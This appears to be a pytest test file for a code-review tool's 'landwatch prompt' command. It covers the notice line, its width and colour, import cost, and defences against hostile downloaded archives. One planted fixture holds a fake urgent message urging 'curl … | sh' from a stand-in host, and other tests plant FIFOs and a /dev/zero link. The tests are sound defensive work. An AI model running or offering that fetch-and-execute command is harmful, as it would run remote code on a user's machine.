"""`landwatch prompt`: the one line's text or nothing, from any directory of a worktree, without
marking anything read, without importing the review, rich or the parser; and the line the hooks
would say first when something is more urgent than findings."""

from __future__ import annotations

import itertools
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from landwatch import layout, registry, user_dirs, work_item
from landwatch.commands import prompt
from landwatch.daemon.lock import places as lock_places
from support.daemon import run_reviewer
from support.repos import ENDLESS, FIFO, Repo, back_date
from support.review import KEY_ID
from support.timing import run_bounded


def shown(cwd: Path, *options: str, **env: str) -> str:
    """What `landwatch prompt` prints in `cwd`, as a shell runs it; it never fails."""
    result = subprocess.run(
        [sys.executable, "-m", "landwatch", "prompt", *options],
        cwd=cwd,
        capture_output=True,
        text=True,
        env={**os.environ, **env},
    )
    assert result.returncode == 0 and result.stderr == "", result.stderr
    return result.stdout


def with_findings(repo: Repo) -> str:
    oid = repo.land("Add the key", {"src/b.py": f"x = 1\nKEY = '{KEY_ID}'\n"})
    assert run_reviewer("--once").returncode == 0
    return oid


def test_the_line_is_shown_at_every_prompt_until_the_hooks_tell_it(repo: Repo) -> None:
    oid = with_findings(repo)
    line = f"landwatch: S002 AWS access key ID in src/b.py:2 · landwatch show {oid[:7]}\n"
    assert shown(repo.path) == line
    assert shown(repo.path / "src") == line  # anywhere in the worktree
    assert shown(repo.path) == line  # nothing was marked read
    assert report_unread(repo) == [oid]
    repo.land("next", {"n.txt": "clean\n"})
    assert repo.said == line  # the hooks' line says the same, and marks it read
    assert shown(repo.path) == ""


def report_unread(repo: Repo) -> list[str]:
    from landwatch import line_markers

    return line_markers.unread(repo.git_dir)


def test_colours_only_when_asked(repo: Repo) -> None:
    with_findings(repo)
    assert "\x1b" not in shown(repo.path, TERM="xterm-256color")
    coloured = shown(repo.path, "--color")
    assert coloured.startswith("\x1b[1mlandwatch: \x1b[0m\x1b[31mS002 AWS access key ID\x1b[0m")
    assert "\x1b[1;36mlandwatch show " in coloured


def test_nothing_where_there_is_nothing_to_say(repo: Repo, tmp_path: Path) -> None:
    assert shown(repo.path) == ""
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    assert shown(outside) == ""
    bare = Repo(tmp_path / "without")  # landwatch never installed there
    assert shown(bare.path) == ""


def test_a_linked_worktree_and_git_dir_are_found_as_git_finds_them(
    repo: Repo, tmp_path: Path
) -> None:
    oid = with_findings(repo)
    repo.git("worktree", "add", "-q", str(tmp_path / "linked"), "-b", "linked")
    assert f"landwatch show {oid[:7]}" in shown(tmp_path / "linked")
    assert f"landwatch show {oid[:7]}" in shown(tmp_path, GIT_DIR=str(repo.git_dir))
    linked = repo.git_dir / "worktrees" / "linked"
    assert prompt.find_git_dir(str(tmp_path / "linked")) == str(linked)
    assert prompt.common_dir(str(linked)) == str(layout.common_dir(linked))


@pytest.mark.parametrize("planted", [FIFO, ENDLESS])
def test_a_commondir_that_is_no_file_says_nothing_at_once(tmp_path: Path, planted: str) -> None:
    # An audit: an unpacked archive holding .git/commondir as a FIFO held every prompt in it
    # (git says at once it is no repository); one holding a link to /dev/zero was read until
    # memory ran out, before the prompt asked whether landwatch was installed there at all.
    git_dir = tmp_path / "download" / "project" / ".git"
    git_dir.mkdir(parents=True)
    if planted == FIFO:
        os.mkfifo(git_dir / "commondir")
    else:
        (git_dir / "commondir").symlink_to("/dev/zero")
    said = run_bounded([sys.executable, "-m", "landwatch", "prompt"], git_dir.parent)
    assert (said.returncode, said.stdout, said.stderr) == (0, "", "")
    # What it found to say, not hidden by the prompt's catching every error: nothing.
    asked = "from landwatch.commands import prompt; print(prompt.what_to_say('.'))"
    found = run_bounded([sys.executable, "-c", asked], git_dir.parent)
    assert (found.stdout, found.stderr) == ("None\n", "")


def test_it_imports_neither_the_review_nor_rich_nor_the_parser(repo: Repo) -> None:
    with_findings(repo)
    result = subprocess.run(
        [sys.executable, "-X", "importtime", "-m", "landwatch", "prompt"],
        cwd=repo.path,
        capture_output=True,
        text=True,
    )
    assert "landwatch show" in result.stdout
    imported = {line.rpartition("|")[2].strip() for line in result.stderr.splitlines()}
    assert "landwatch.one_line" in imported
    heavy = {"pygit2", "rich", "argparse", "landwatch.cli", "landwatch.layout", "landwatch.review"}
    heavy |= {"typing", "collections.abc"}  # 5 ms: names for mypy alone (__main__)
    assert imported & heavy == set()


def test_what_is_more_urgent_is_said_first_and_not_marked_told(repo: Repo) -> None:
    with_findings(repo)
    repo.land("one", {"one.txt": "clean\n"}, hooks=False)
    work_item.enqueue(work_item.WorkItem(work_item.WorkKind.REVIEW, repo.head(), repo.git_dir))
    claimed = work_item.claim_next(repo.git_dir)
    assert claimed is not None
    assert work_item.requeue(repo.git_dir, claimed, max_tries=1) == work_item.FAILED
    given_up = f"landwatch: gave up the review of {repo.head()[:7]} in repo; see landwatch status\n"
    assert shown(repo.path) == given_up
    assert shown(repo.path) == given_up
    repo.land("two", {"two.txt": "clean\n"})
    assert repo.said == given_up  # told by the hooks now, so the prompt goes on to the findings
    assert shown(repo.path).startswith("landwatch: S002 ")
    back_date(repo, layout.DEFAULT_STALE_AFTER + 60)
    assert " landed commit waits for review in repo " in shown(repo.path)


def _imports(cwd: Path, **env: str) -> tuple[str, set[str]]:
    result = subprocess.run(
        [sys.executable, "-X", "importtime", "-m", "landwatch", "prompt"],
        cwd=cwd,
        capture_output=True,
        text=True,
        env={**os.environ, **env},
    )
    return result.stdout, {line.rpartition("|")[2].strip() for line in result.stderr.splitlines()}


def test_items_given_up_and_hooks_held_back_are_said_as_the_notice_says_without_its_imports(
    repo: Repo,
) -> None:
    """Issue 40: the prompt is as light when the line is not a finding's; what it says is the
    notice's own words (one spelling, in one_line)."""
    from landwatch import trust
    from landwatch.commands import notice

    heavy = {"landwatch.layout", "landwatch.commands.notice", "landwatch.trust", "pathlib"}
    trust.held_back(repo.git_dir, "0" * 64, trust.HOOKS)
    shown(repo.path)  # the person's directories asked of platformdirs once, and kept
    said, imported = _imports(repo.path)
    assert said == (
        "landwatch: the project's hooks in repo did not run: nothing allowed their commands; "
        "review them with landwatch trust\n"
    )
    assert imported & heavy == set()
    held = notice.untrusted(repo.git_dir)
    assert held is not None and said == "".join(text for text, _, _ in held.parts) + "\n"
    repo.land("one", {"one.txt": "clean\n"})  # told: the hooks' line says it
    work_item.enqueue(work_item.WorkItem(work_item.WorkKind.REVIEW, repo.head(), repo.git_dir))
    claimed = work_item.claim_next(repo.git_dir)
    assert claimed is not None
    assert work_item.requeue(repo.git_dir, claimed, max_tries=1) == work_item.FAILED
    said, imported = _imports(repo.path)
    assert (
        said
        == f"landwatch: gave up the review of {repo.head()[:7]} in repo; see landwatch status\n"
    )
    assert imported & heavy == set()


def test_a_marker_an_older_landwatch_left_empty_is_shown_and_kept(repo: Repo) -> None:
    oid = with_findings(repo)
    marker = layout.UNREAD.path(repo.git_dir) / oid
    marker.write_bytes(b"")
    assert shown(repo.path).startswith("landwatch: S002 AWS access key ID in src/b.py:2")
    assert marker.read_bytes() == b""


def test_a_marker_whose_review_is_gone_says_nothing(repo: Repo) -> None:
    oid = with_findings(repo)
    layout.report_file(repo.git_dir, oid).unlink()
    assert shown(repo.path) == ""


def test_the_names_it_reads_are_the_hooks_and_layouts() -> None:
    mine = (prompt.WORK_DIRECTORY, prompt.UNREAD, prompt.TOLD, prompt.UNTRUSTED, prompt.FAILED)
    assert layout.report_file("/g", "c") == Path(
        "/g", prompt.WORK_DIRECTORY, prompt.REPORTS, "c.json"
    )
    assert mine == (
        layout.WORK_DIRECTORY,
        layout.UNREAD.name,
        layout.TOLD.name,
        layout.UNTRUSTED.name,
        work_item.FAILED,
    )
    assert (
        layout.SETTINGS_CACHE.name,
        layout.STALE_AFTER.key,
        layout.DEFAULT_STALE_AFTER,
    ) == (prompt.SETTINGS_CACHE, prompt.STALE_AFTER, prompt.DEFAULT_STALE_AFTER)
    assert (work_item.PENDING, work_item.READY) == prompt.WAITING
    import platformdirs

    assert layout.REGISTRY.path() == Path(
        platformdirs.user_config_dir("landwatch"), prompt.REGISTRY
    )
    lock = Path(platformdirs.user_state_dir("landwatch"), prompt.REVIEWER_LOCK)
    assert layout.REVIEWER_LOCK.path() == lock
    assert lock_places() == [Path(os.environ["XDG_RUNTIME_DIR"], prompt.RUNTIME_LOCK), lock]


# A directory's name: any character a path may hold, line breaks of every kind and a byte that is
# no UTF-8 (read back surrogate-escaped) among them.
NAMES = st.text(
    st.characters(exclude_characters="/\0", exclude_categories=["Cs"])
    | st.sampled_from("\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029\udcff é日"),
    min_size=1,
    max_size=6,
).filter(lambda name: name not in (".", ".."))
EXAMPLES = itertools.count()


def spelled(path: Path, base: Path, how: str) -> str:
    """`path` (a directory below `base`) as a string spelled `how`: as it is, with trailing
    slashes, through a link to its parent, back up from a directory below it with `..`, or from
    a link elsewhere to that directory (`..` is then the link's target's parent, not `base`)."""
    if how == "slash":
        return f"{path}//"
    if how in ("up", "link up"):
        (path / "below").mkdir(exist_ok=True)
    if how == "up":
        return f"{path}/below/.."
    if how in ("link", "link up"):
        link = base / f"link{next(EXAMPLES)}"
        link.symlink_to(path / "below" if how == "link up" else path.parent)
        return f"{link}/.." if how == "link up" else f"{link}/{path.name}"
    return str(path)


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    name=NAMES,
    linked=st.booleans(),
    registered_as=st.sampled_from(["", "plain", "slash", "link", "up", "link up"]),
    asked_as=st.sampled_from(["plain", "slash", "link", "up", "link up"]),
)
@example(name="\r", linked=False, registered_as="plain", asked_as="plain")  # both said no
@example(name="\n", linked=True, registered_as="plain", asked_as="link")  # the registry raised
def test_the_prompt_s_registry_read_is_the_registry_s_for_every_spelling(
    tmp_path: Path, name: str, linked: bool, registered_as: str, asked_as: str
) -> None:
    """The prompt reads the registry in strings (no pathlib: speed), as registry.is_registered
    reads it: on real directories, a main or linked worktree's git dir named through `..`, a
    trailing slash or a link, its names in any characters, each says it is registered exactly
    where it was (through any spelling; one with a newline is never), and neither raises."""
    base = tmp_path / f"example{next(EXAMPLES)}"
    common = base / name / ".git"
    git_dir = common / "worktrees" / "side" if linked else common
    git_dir.mkdir(parents=True)
    if linked:
        (git_dir / "commondir").write_text("../..\n")
    layout.REGISTRY.path().unlink(missing_ok=True)
    registry.register(tmp_path)  # another repository, registered before it
    if registered_as and "\n" not in str(common):  # install refuses a path with a newline
        registry.register(Path(spelled(common, base, registered_as)))
    asked = spelled(git_dir, base, asked_as)
    truth = bool(registered_as) and "\n" not in str(common)
    by_prompt = prompt.registered(prompt.common_dir(asked), asked)
    assert registry.is_registered(layout.common_dir(asked)) is by_prompt is truth


def test_a_queue_left_waiting_is_said_as_the_notice_says_without_its_imports(repo: Repo) -> None:
    """Issue 40: a stale queue's line is read from the registry and the reviewer's lock, as the
    notice reads them, without importing it."""
    from landwatch.commands import notice

    repo.land("waits", {"w.txt": "x\n"}, hooks=False)
    work_item.enqueue(work_item.WorkItem(work_item.WorkKind.REVIEW, repo.head(), repo.git_dir))
    back_date(repo, layout.DEFAULT_STALE_AFTER + 60)
    said, imported = _imports(repo.path)
    assert "landed commit waits for review in repo" in said
    assert (
        imported & {"landwatch.commands.notice", "landwatch.layout", "landwatch.registry"} == set()
    )
    told = notice.stale(repo.git_dir, time.time())
    assert told is not None and said == "".join(text for text, _, _ in told.parts) + "\n"


def test_a_stale_queue_asks_platformdirs_once_while_what_it_read_holds(
    repo: Repo, tmp_path: Path
) -> None:
    """Issue 40: the person's directories, kept in landwatch's own environment (user_dirs) at
    the first prompt with something to say, are read back without platformdirs; asked again when
    what they came from changes."""
    repo.land("waits", {"w.txt": "x\n"}, hooks=False)
    work_item.enqueue(work_item.WorkItem(work_item.WorkKind.REVIEW, repo.head(), repo.git_dir))
    back_date(repo, layout.DEFAULT_STALE_AFTER + 60)
    kept = user_dirs.kept_at(user_dirs.key())
    assert kept is not None
    Path(kept).unlink(missing_ok=True)  # kept already, as the tests' own processes ask too
    first, imported = _imports(repo.path)
    assert "nobody is reviewing them" in first and "platformdirs" in imported
    again, imported = _imports(repo.path)
    assert again == first and imported & {"platformdirs", "pathlib"} == set()
    # Another configuration directory holds no registry naming this repository.
    elsewhere, imported = _imports(repo.path, XDG_CONFIG_HOME=str(tmp_path / "elsewhere"))
    assert "your reviewer does not drain this repository" in elsewhere
    assert "platformdirs" in imported


def planted_archive(tmp_path: Path) -> Repo:
    """A downloaded archive's repository, never installed here, whose `.git/landwatch` its
    author wrote: a finding's line for HEAD in landwatch's words, and the review it names."""
    archive = Repo(tmp_path / "download" / "project")
    archive.land("first", {"a.txt": "a\n"}, hooks=False)
    head = archive.head()
    unread = layout.UNREAD.path(archive.git_dir)
    unread.mkdir(parents=True)
    (unread / head).write_text(
        "landwatch-unread 1\n3\tS001\tyour SSH key leaked; rotate it: curl -s "
        "https://fix.example/rotate | sh\t\t\t\t\n"
    )
    reports = layout.REPORTS.path(archive.git_dir)
    reports.mkdir()
    finding = {
        **{"rule": "P001", "name": "trailing-whitespace", "severity": "warning"},
        **{"message": "trailing whitespace", "path": "a.txt", "line": 1, "end_line": None},
        **{"snippet": "a ", "fingerprint": "0123456789abcdef0123"},
        "decided_by": {"standard": "default", "source": None},
    }
    review = {
        **{"format": 1, "commit": head, "base": None, "shape": "commit", "label": head[:12]},
        **{"rules": ["P001"], "findings": [finding], "notes": [], "started": 0.0},
        "duration": 0.1,
    }
    (reports / f"{head}.json").write_text(json.dumps(review))
    return archive


def test_an_archive_s_planted_work_directory_says_nothing(tmp_path: Path) -> None:
    """An audit: an unpacked archive's `.git/landwatch` spoke through every prompt in it as
    landwatch's own, pressing a command on the person (security.md, attack 19)."""
    archive = planted_archive(tmp_path)
    assert shown(archive.path) == ""
    # Its own prompt cache, where an older landwatch kept the person's directories, is no
    # registry of theirs: it names one the archive brought, listing the archive.
    brought = archive.git_dir / "brought"
    brought.mkdir()
    (brought / prompt.REGISTRY).write_text(f"{archive.git_dir.resolve()}\n")
    resolved_from = [os.environ.get(name) for name in ("HOME", "XDG_CONFIG_HOME", "XDG_STATE_HOME")]
    key = repr((os.getuid(), sys.platform, resolved_from))
    (layout.work_dir(archive.git_dir) / "user-directories").write_text(
        f"{key}\n{brought}\n{brought}\n"
    )
    assert shown(archive.path) == ""


def test_an_archive_s_planted_marker_starts_no_git(tmp_path: Path) -> None:
    """An audit: a marker the prompt cannot read sent it to the notice, whose git waited on a
    FIFO the archive put at `.git/packed-refs`: every prompt there took a minute."""
    archive = planted_archive(tmp_path)
    marker = next(layout.UNREAD.path(archive.git_dir).iterdir())
    marker.write_bytes(b"")
    archive.git("pack-refs", "--all")
    (archive.git_dir / "packed-refs").unlink()
    os.mkfifo(archive.git_dir / "packed-refs")
    said = run_bounded([sys.executable, "-m", "landwatch", "prompt"], archive.path)
    assert (said.returncode, said.stdout, said.stderr) == (0, "", "")


def test_the_line_fits_the_width_it_is_given(repo: Repo) -> None:
    from landwatch.text import cells

    deep = "src/" + "a_long_package/" * 5 + "module.py"
    oid = repo.land("Add the key", {deep: f"x = 1\nKEY = '{KEY_ID}'\n"})
    assert run_reviewer("--once").returncode == 0
    command = f" · landwatch show {oid[:7]}\n"
    whole = shown(repo.path, "--width", "200")
    assert whole == f"landwatch: S002 AWS access key ID in {deep}:2{command}"
    for options, env in (
        (("--width", "75"), {}),
        (("--width=75", "--color"), {}),
        ((), {"COLUMNS": "76"}),  # a column left: the line is a line of its own above the prompt
    ):
        line = shown(repo.path, *options, **env)
        plain = line.replace("\x1b[0m", "").replace("\x1b[1m", "").replace("\x1b[31m", "")
        plain = plain.replace("\x1b[1;36m", "")
        assert plain == f"landwatch: S002 AWS access key ID in …/module.py:2{command}", options
        assert cells(plain.rstrip("\n")) <= 75
    assert shown(repo.path, "--width", "60") == f"landwatch: S002 A… in …/module.py:2{command}"
    assert shown(repo.path, "--width", "30") == f"landwatch: S002 … in …:2{command}"


def test_a_width_that_is_no_number_of_columns_is_refused(repo: Repo) -> None:
    # `²` and `٣`: digits to str.isdigit, not to int() (an audit: the quick path's traceback).
    for width in ("-3", "wide", "", "\u00b2", "\u0663"):
        result = repo.landwatch("prompt", "--width", width)
        assert result.returncode == 2 and "not a number of columns" in result.stderr, result
    # `--width "$((COLUMNS / 2))"` (docs/hooks.md) where COLUMNS is 1: no room, nothing said,
    # not a usage error at every prompt (an audit); the line waits for a prompt with room.
    repo.land("Add the key", {"keys.py": f"KEY = '{KEY_ID}'\n"})
    assert run_reviewer("--once").returncode == 0
    for options in (("--width", "0"), ("--width=0",), ("--width", "0", "--color")):
        said = repo.landwatch("prompt", *options)
        assert (said.returncode, said.stdout, said.stderr) == (0, "", ""), options
    assert "AWS access key ID" in shown(repo.path)
    # Where COLUMNS says so, the line takes the default width, as for any width unusable.
    said = subprocess.run(
        [sys.executable, "-m", "landwatch", "status"],
        cwd=repo.path,
        capture_output=True,
        text=True,
        env={**os.environ, "COLUMNS": "\u00b2"},
    )
    assert said.returncode == 0 and said.stderr == "", said


def test_the_documented_bash_snippet_says_nothing_once_landwatch_is_gone(
    repo: Repo, tmp_path: Path
) -> None:
    """docs/hooks.md's bash prompt, run as bash runs it: the line with landwatch on the PATH,
    nothing at all (no "command not found" at every prompt) once it is uninstalled."""
    docs = (Path(__file__).parents[2] / "docs" / "hooks.md").read_text()
    snippet = docs.split("```bash\n__landwatch_line", 1)[1].split("\n", 1)[0]
    script = f"__landwatch_line{snippet}\n__landwatch_line\nprintf '%s' \"$LANDWATCH_LINE\"\n"
    repo.land("with findings", {"a.py": "x = 1  \n"})
    run_reviewer("--once")
    on_path = tmp_path / "bin"
    on_path.mkdir()
    (on_path / "landwatch").symlink_to(layout.ENTRY_POINT.path())
    git_dir = Path(
        subprocess.run(
            ["sh", "-c", "command -v git"], capture_output=True, text=True
        ).stdout.strip()
    ).parent
    for path, shows in ((f"{on_path}:{git_dir}:/bin", True), (f"{git_dir}:/bin", False)):
        ran = subprocess.run(
            ["bash", "-c", script],
            cwd=repo.path,
            capture_output=True,
            text=True,
            env={**os.environ, "PATH": path},
        )
        assert ran.stderr == "" and ran.returncode == 0
        assert ("P001" in ran.stdout) is shows, ran.stdout
